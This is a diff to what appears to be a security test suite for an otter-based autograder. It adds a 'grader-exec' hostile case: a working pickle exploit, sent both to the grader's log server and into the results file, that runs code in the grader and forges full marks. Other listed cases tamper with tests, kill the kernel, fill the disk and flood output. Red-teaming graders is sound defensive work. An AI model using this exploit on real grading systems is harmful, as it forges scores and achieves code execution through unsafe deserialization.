@@ -17,6 +17,8 @@ nothing) or left as the `...` placeholders (so any score above 0 is a forgery).
   tamper-tests     rewrites otter's test files in the grading directory; no answers       -> 0 wanted
   tamper-checker   patches otter's doctest runner inside the kernel; no answers           -> 0 wanted
   tamper-late      a setsid daemon rewrites /job/out/results.json after otter wrote it     -> 0 wanted
+  grader-exec      pickles for otter's log server and results file: code run in the grader
+                   process patches the results to full marks; no answers                   -> 0 wanted
   print-flood      ~100 MB printed, ~100 MB to the container's stdout     -> bounded; 1.0 or a failure verdict
   kill-kernel      SIGKILL to its own kernel                              -> autograder_failed, 0
   disk-fill        writes 2 GB under /job (the job volume, on the host's disk); answers right
@@ -215,6 +217,46 @@ if os.fork() == 0:
 os.wait()
 """
 
+GRADER_EXEC = """\
+# hostile: run code in the grader, not in the kernel. otter 7's grader process unpickles (a) what
+# any local process sends to its execution-log server (address in this kernel's log handlers) and
+# (b) the results file this kernel's export cell writes with pickle.dump. The pickle below, once
+# loaded in the grader, replaces otter's results formatting there with full marks.
+import logging, logging.handlers, pickle, socket, struct
+
+PAYLOAD = '''
+import otter.test_files as t
+def forged(self, ag_config):
+    return {"score": 5, "tests": [{"name": q, "score": p, "max_score": p, "visibility": "visible",
+                                   "output": "forged in the grader"} for q, p in (("q1", 1), ("q2", 2), ("q3", 2))]}
+t.GradingResults.to_gradescope_dict = forged
+'''
+
+class RunInGrader:
+    def __reduce__(self):
+        # loads as a GradingResults (what otter expects from its results file), after the patch ran
+        return (eval, ("(exec(PAYLOAD_SRC), __import__('otter.test_files', fromlist=['t']).GradingResults([]))[1]",
+                       {"PAYLOAD_SRC": PAYLOAD}))
+
+grader_exec_log = []
+record = pickle.dumps({"msg": "hello", "args": None, "payload": RunInGrader()})
+handlers = {h for lg in list(logging.Logger.manager.loggerDict.values()) if isinstance(lg, logging.Logger)
+            for h in lg.handlers if isinstance(h, logging.handlers.SocketHandler)}
+for h in handlers:
+    try:
+        with socket.create_connection((h.host, h.port), timeout=3) as s:
+            s.sendall(struct.pack(">L", len(record)) + record)
+        grader_exec_log.append(f"sent a pickle to the log server {h.host}:{h.port}")
+    except OSError as e:
+        grader_exec_log.append(f"log server {h.host}:{h.port}: {e!r}")
+
+_real_dump = pickle.dump
+def _dump(obj, f, *args, **kwargs):
+    _real_dump(RunInGrader(), f)
+pickle.dump = _dump
+print(grader_exec_log)
+"""
+
 PRINT_FLOOD = """\
 # hostile: about 100 MB printed (into the notebook's outputs, held by otter), then about 100 MB
 # written straight to the container's stdout (the engine's log of the container, on the host)
@@ -289,6 +331,7 @@ CASES = {
     "tamper-tests": (TAMPER_TESTS, False),
     "tamper-checker": (TAMPER_CHECKER, False),
     "tamper-late": (TAMPER_LATE, False),
+    "grader-exec": (GRADER_EXEC, False),
     "print-flood": (PRINT_FLOOD, True),
     "kill-kernel": (KILL_KERNEL, True),
     "disk-fill": (DISK_FILL, True),
